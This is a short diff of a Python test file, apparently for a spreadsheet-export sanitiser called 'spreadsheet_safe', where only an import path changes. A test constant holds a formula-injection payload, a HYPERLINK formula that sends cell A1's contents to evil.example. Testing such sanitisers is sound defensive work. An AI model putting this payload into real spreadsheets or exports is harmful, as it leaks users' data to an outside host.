@@ -8,7 +8,7 @@ import json
 
 import pytest
 
-from eakte.services.audit_log import spreadsheet_safe
+from eakte.services.audit_queries import spreadsheet_safe
 from tests.web.test_sign_in import sign_in
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
